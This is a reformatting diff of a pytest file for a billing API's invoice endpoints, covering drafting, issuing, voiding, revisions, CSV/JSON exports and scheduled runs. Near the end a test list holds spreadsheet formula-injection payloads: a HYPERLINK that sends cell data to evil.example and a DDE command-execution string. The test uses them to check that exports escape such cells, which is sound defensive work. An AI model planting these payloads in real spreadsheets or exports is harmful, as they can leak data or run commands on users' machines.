@@ -1,5 +1,6 @@
 """Invoices over HTTP: every status and error code of API.md's invoice endpoints, gapless numbers,
 exports that add up, and the scheduled run through /_local/invoke (invariants 5-8)."""
+
 import csv
 import io
 import threading
@@ -10,7 +11,7 @@ from decimal import Decimal
 import pytest
 
 from billing.domain.invoice_export import NUMBER_COLUMNS
-from billing.domain.values import format_timestamp, parse_timestamp
+from billing.domain.values import parse_timestamp
 
 from .clock import invoke_run
 from .test_plans_http import TERMS, error_of, new_plan_id
@@ -42,15 +43,31 @@ def test_drafting_a_period_prices_the_base_fee_and_overage_from_the_aggregate(se
     response = draft(server, token, sid)
     assert response.status_code == 201
     invoice = response.json()
-    assert (invoice["status"], invoice["number"], invoice["currency"], invoice["organization_id"]) == ("draft", None, "USD", org)
-    assert [(line["kind"], line["service"], line["quantity"], line["unit_amount_cents"], line["amount_cents"]) for line in invoice["line_items"]] == [
-        ("base_fee", None, "1", "49900", 49_900), ("overage", "instrumentation", "5", "12.5", 62)]  # 62.5 -> 62, half-even
+    assert (invoice["status"], invoice["number"], invoice["currency"], invoice["organization_id"]) == (
+        "draft",
+        None,
+        "USD",
+        org,
+    )
+    assert [
+        (line["kind"], line["service"], line["quantity"], line["unit_amount_cents"], line["amount_cents"])
+        for line in invoice["line_items"]
+    ] == [
+        ("base_fee", None, "1", "49900", 49_900),
+        ("overage", "instrumentation", "5", "12.5", 62),
+    ]  # 62.5 -> 62, half-even
     assert invoice["subtotal_cents"] == invoice["total_cents"] == 49_962
     again = draft(server, token, sid, body={"period_start": invoice["period_start"]})
-    assert again.status_code == 200 and again.json()["invoice_id"] == invoice["invoice_id"] and again.json()["created_at"] == invoice["created_at"]
+    assert (
+        again.status_code == 200
+        and again.json()["invoice_id"] == invoice["invoice_id"]
+        and again.json()["created_at"] == invoice["created_at"]
+    )
     listed = server.request("GET", f"/subscriptions/{sid}/invoices", token=token("org:member", org=org)).json()
     assert [i["invoice_id"] for i in listed["items"]] == [invoice["invoice_id"]]
-    one = server.request("GET", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}", token=token("org:admin", org=org))
+    one = server.request(
+        "GET", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}", token=token("org:admin", org=org)
+    )
     assert one.status_code == 200 and one.json() == again.json()
 
 
@@ -67,7 +84,9 @@ def test_drafting_needs_finance_or_admin_of_the_subscriptions_residency(server, 
     assert draft(server, token, "01JBZ8Y7Q9R5N0W3X2V1T6S4PA").status_code == 404
 
 
-@pytest.mark.parametrize("body", [{"period_start": "2020-01-01T00:00:00Z"}, {"period_start": "soon"}, {"periodstart": "x"}])
+@pytest.mark.parametrize(
+    "body", [{"period_start": "2020-01-01T00:00:00Z"}, {"period_start": "soon"}, {"periodstart": "x"}]
+)
 def test_drafting_an_unknown_period_is_422(server, token, body):
     sid = subscribe(server, token, new_org())["subscription_id"]
     response = draft(server, token, sid, body=body)
@@ -85,17 +104,28 @@ def test_issuing_numbers_and_freezes_and_a_period_issued_is_not_redrafted(server
     end_period(server, token, sid)
     for who in (token("org:admin", org=org), token("service")):
         assert server.request("POST", f"{path}/issue", token=who).status_code == 403
-    assert error_of(server.request("POST", f"{path}/issue", token=token("finance", residency="eu")))["code"] == "residency_mismatch"
+    assert (
+        error_of(server.request("POST", f"{path}/issue", token=token("finance", residency="eu")))["code"]
+        == "residency_mismatch"
+    )
     issued = server.request("POST", f"{path}/issue", token=token("finance"))
     assert issued.status_code == 200
     body = issued.json()
-    assert body["status"] == "issued" and body["number"].startswith("INV-") and len(body["number"]) == 10 and body["issued_at"]
+    assert (
+        body["status"] == "issued"
+        and body["number"].startswith("INV-")
+        and len(body["number"]) == 10
+        and body["issued_at"]
+    )
     twice = server.request("POST", f"{path}/issue", token=token("finance"))
     assert twice.status_code == 409 and error_of(twice)["code"] == "invoice_not_draft"
     redraft = draft(server, token, sid)
     assert redraft.status_code == 409 and error_of(redraft)["code"] == "invoice_not_draft"
     assert server.request("GET", path, token=token("finance")).json() == body  # frozen
-    assert server.request("POST", f"/subscriptions/{sid}/invoices/inv_nope/issue", token=token("finance")).status_code == 404
+    assert (
+        server.request("POST", f"/subscriptions/{sid}/invoices/inv_nope/issue", token=token("finance")).status_code
+        == 404
+    )
 
 
 def test_voiding_keeps_the_number_and_is_final(server, token):
@@ -105,11 +135,22 @@ def test_voiding_keeps_the_number_and_is_final(server, token):
     end_period(server, token, sid)
     number = server.request("POST", f"{path}/issue", token=token("marketplace:admin")).json()["number"]
     voided = server.request("POST", f"{path}/void", token=token("finance"))
-    assert voided.status_code == 200 and voided.json()["status"] == "void" and voided.json()["number"] == number and voided.json()["voided_at"]
+    assert (
+        voided.status_code == 200
+        and voided.json()["status"] == "void"
+        and voided.json()["number"] == number
+        and voided.json()["voided_at"]
+    )
     assert server.request("POST", f"{path}/void", token=token("finance")).json() == voided.json()
     assert error_of(server.request("POST", f"{path}/issue", token=token("finance")))["code"] == "invoice_not_draft"
-    assert server.request("POST", f"{path}/void", token=token("org:admin", org=invoice["organization_id"])).status_code == 403
-    assert server.request("POST", f"/subscriptions/{sid}/invoices/inv_nope/void", token=token("finance")).status_code == 404
+    assert (
+        server.request("POST", f"{path}/void", token=token("org:admin", org=invoice["organization_id"])).status_code
+        == 403
+    )
+    assert (
+        server.request("POST", f"/subscriptions/{sid}/invoices/inv_nope/void", token=token("finance")).status_code
+        == 404
+    )
 
 
 def test_a_voided_period_is_invoiced_again_under_the_next_revision(server, token):
@@ -121,13 +162,20 @@ def test_a_voided_period_is_invoiced_again_under_the_next_revision(server, token
     issued = server.request("POST", f"{path}/{first['invoice_id']}/issue", token=token("finance")).json()
     server.request("POST", f"{path}/{first['invoice_id']}/void", token=token("finance"))
     again = draft(server, token, sid)
-    assert again.status_code == 201 and again.json()["invoice_id"] == first["invoice_id"] + "_r002" and again.json()["revision"] == 2
+    assert (
+        again.status_code == 201
+        and again.json()["invoice_id"] == first["invoice_id"] + "_r002"
+        and again.json()["revision"] == 2
+    )
     assert draft(server, token, sid).status_code == 200  # the new revision is a draft like any other
     reissued = server.request("POST", f"{path}/{again.json()['invoice_id']}/issue", token=token("finance")).json()
     assert reissued["number"] != issued["number"]
     listed = server.request("GET", path, token=token("finance")).json()["items"]
     assert [(i["revision"], i["status"]) for i in listed] == [(2, "issued"), (1, "void")]
-    assert server.request("GET", f"{path}/{first['invoice_id']}", token=token("finance")).json()["number"] == issued["number"]
+    assert (
+        server.request("GET", f"{path}/{first['invoice_id']}", token=token("finance")).json()["number"]
+        == issued["number"]
+    )
 
 
 def test_the_scheduled_run_drafts_a_new_revision_for_a_voided_period(fresh_server, token):
@@ -144,7 +192,9 @@ def test_the_scheduled_run_drafts_a_new_revision_for_a_voided_period(fresh_serve
 def test_a_draft_can_be_voided_and_never_takes_a_number(server, token):
     sid = subscribe(server, token, new_org())["subscription_id"]
     invoice = draft(server, token, sid).json()
-    voided = server.request("POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/void", token=token("finance"))
+    voided = server.request(
+        "POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/void", token=token("finance")
+    )
     assert voided.status_code == 200 and voided.json()["number"] is None
 
 
@@ -175,8 +225,16 @@ def test_exports_are_csv_and_json_whose_rows_add_up(server, token):
     assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
     assert "attachment" in response.headers["Content-Disposition"]
     rows = list(csv.DictReader(io.StringIO(response.text)))
-    assert [r["kind"] for r in rows] == ["base_fee", "overage"] and [int(r["amount_cents"]) for r in rows] == [49_900, 41]
-    assert sum(int(r["amount_cents"]) for r in rows) == int(rows[0]["invoice_total_cents"]) == invoice["total_cents"] == 49_941
+    assert [r["kind"] for r in rows] == ["base_fee", "overage"] and [int(r["amount_cents"]) for r in rows] == [
+        49_900,
+        41,
+    ]
+    assert (
+        sum(int(r["amount_cents"]) for r in rows)
+        == int(rows[0]["invoice_total_cents"])
+        == invoice["total_cents"]
+        == 49_941
+    )
     assert sum(Decimal(r["amount"]) for r in rows) == Decimal(rows[0]["invoice_total"]) == Decimal("499.41")
     as_json = server.request("GET", path, token=token("marketplace:admin"), params={"format": "json"})
     assert as_json.status_code == 200 and as_json.headers["Content-Type"].startswith("application/json")
@@ -192,13 +250,17 @@ def test_organizations_read_only_their_own_invoices(server, token):
     invoice = draft(server, token, sid).json()
     path = f"/subscriptions/{sid}/invoices"
     assert server.request("GET", path, token=token("org:admin", org=new_org())).status_code == 404
-    assert server.request("GET", f"{path}/{invoice['invoice_id']}", token=token("org:member", org=new_org())).status_code == 404
+    assert (
+        server.request("GET", f"{path}/{invoice['invoice_id']}", token=token("org:member", org=new_org())).status_code
+        == 404
+    )
     assert server.request("GET", path, token=token("service")).status_code == 403
     assert server.request("GET", f"{path}/inv_nope", token=token("org:member", org=org)).status_code == 404
     assert server.request("GET", path).status_code == 401
 
 
 # --- the scheduled run ----------------------------------------------------------------------------
+
 
 def state(server, token, sid):
     subscription = server.request("GET", f"/subscriptions/{sid}", token=token("finance")).json()
@@ -212,17 +274,36 @@ def test_the_scheduled_run_closes_the_period_once_even_delivered_twice_and_twice
     org = new_org()
     subscription = with_overage(server, token, org, quantity="30")  # 150 of 1000 used
     sid = subscription["subscription_id"]
-    server.request("POST", f"/subscriptions/{sid}/credits", token=token("marketplace:admin"),
-                   json={"amount": "40", "type": "top_up", "reason": "pack", "idempotency_key": "p1"})
+    server.request(
+        "POST",
+        f"/subscriptions/{sid}/credits",
+        token=token("marketplace:admin"),
+        json={"amount": "40", "type": "top_up", "reason": "pack", "idempotency_key": "p1"},
+    )
     after_end = parse_timestamp(subscription["current_period_end"]) + timedelta(minutes=15)
 
     report = invoke_run(server, after_end)
-    assert (report["periods_closed"], report["invoices_drafted"], report["allowances_expired"], report["allowances_granted"]) == (1, 1, 1, 1)
+    assert (
+        report["periods_closed"],
+        report["invoices_drafted"],
+        report["allowances_expired"],
+        report["allowances_granted"],
+    ) == (1, 1, 1, 1)
     closed, entries, invoices = state(server, token, sid)
-    assert [e["type"] for e in entries[-2:]] == ["expiry", "grant"] and entries[-2]["amount"] == "-850" and entries[-1]["amount"] == "1000"
-    assert closed["credit_balance"] == "1040" and closed["allowance_balance"] == "1000" and closed["purchased_balance"] == "40"
+    assert (
+        [e["type"] for e in entries[-2:]] == ["expiry", "grant"]
+        and entries[-2]["amount"] == "-850"
+        and entries[-1]["amount"] == "1000"
+    )
+    assert (
+        closed["credit_balance"] == "1040"
+        and closed["allowance_balance"] == "1000"
+        and closed["purchased_balance"] == "40"
+    )
     assert closed["current_period_start"] == subscription["current_period_end"]
-    assert [(i["period_start"], i["status"], i["total_cents"]) for i in invoices] == [(subscription["current_period_start"], "draft", 49_900)]
+    assert [(i["period_start"], i["status"], i["total_cents"]) for i in invoices] == [
+        (subscription["current_period_start"], "draft", 49_900)
+    ]
     assert_ledger_is_honest(server, token, sid)
 
     assert invoke_run(server, after_end)["periods_closed"] == 0
@@ -257,7 +338,9 @@ def test_the_scheduled_run_leaves_an_issued_invoice_alone(fresh_server, token):
     sid = subscription["subscription_id"]
     invoice = draft(server, token, sid).json()
     end_period(server, token, sid)
-    issued = server.request("POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance")).json()
+    issued = server.request(
+        "POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance")
+    ).json()
     assert issued["status"] == "issued"
     report = invoke_run(server, parse_timestamp(subscription["current_period_end"]) + timedelta(seconds=1))
     assert report["failures"] == []
@@ -271,6 +354,7 @@ def test_the_scheduled_run_rejects_an_event_without_a_time(server):
 
 
 # --- money safety -----------------------------------------------------------------------------
+
 
 def test_subscribing_using_the_allowance_and_canceling_at_once_pays_for_the_allowance(server, token):
     org = new_org()
@@ -296,33 +380,60 @@ def test_an_open_period_is_not_issued_and_later_usage_lands_on_its_invoice(serve
     org = new_org()
     sid = with_overage(server, token, org)["subscription_id"]  # 5 credits over
     invoice = draft(server, token, sid).json()
-    refused = server.request("POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance"))
+    refused = server.request(
+        "POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance")
+    )
     assert refused.status_code == 409 and error_of(refused)["code"] == "period_open"
     assert error_of(refused)["details"]["period_end"] == invoice["period_end"]
-    assert server.request("GET", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}", token=token("finance")).json() == invoice
+    assert (
+        server.request("GET", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}", token=token("finance")).json()
+        == invoice
+    )
     assert record(server, token, usage_body(org, quantity="20")).status_code == 201  # 100 more over
     end_period(server, token, sid)
-    issued = server.request("POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance")).json()
+    issued = server.request(
+        "POST", f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/issue", token=token("finance")
+    ).json()
     overage = [line for line in issued["line_items"] if line["kind"] == "overage"]
-    assert issued["status"] == "issued" and [line["quantity"] for line in overage] == ["105"]  # every credit over, billed
+    assert issued["status"] == "issued" and [line["quantity"] for line in overage] == [
+        "105"
+    ]  # every credit over, billed
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"Pay here")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "\tTAB", "\rCR"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"Pay here")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)",
+    "\tTAB",
+    "\rCR",
+]
 
 
 @pytest.mark.parametrize("name", FORMULAS)
 def test_exported_text_cells_never_run_as_spreadsheet_formulas(server, token, name):
     plan_id = new_plan_id()
     terms = {**TERMS, "name": name.strip() or "x", "billing_cadence": "monthly"}
-    assert server.request("POST", "/plans", token=token("marketplace:admin"), json={"plan_id": plan_id, **terms}).status_code == 201
+    assert (
+        server.request(
+            "POST", "/plans", token=token("marketplace:admin"), json={"plan_id": plan_id, **terms}
+        ).status_code
+        == 201
+    )
     org = new_org()
     sid = subscribe(server, token, org, plan_id=plan_id)["subscription_id"]
     invoice = draft(server, token, sid).json()
     path = f"/subscriptions/{sid}/invoices/{invoice['invoice_id']}/export"
     rows = list(csv.DictReader(io.StringIO(server.request("GET", path, token=token("finance")).text)))
-    assert rows[0]["description"].startswith("'" + terms["name"][:1]) or not terms["name"].startswith(("=", "+", "-", "@"))
+    assert rows[0]["description"].startswith("'" + terms["name"][:1]) or not terms["name"].startswith(
+        ("=", "+", "-", "@")
+    )
     for row in rows:
-        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for column, cell in row.items() if column not in NUMBER_COLUMNS)
+        assert all(
+            not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+            for column, cell in row.items()
+            if column not in NUMBER_COLUMNS
+        )
         assert int(row["amount_cents"]) == row_amount(row)
 
 
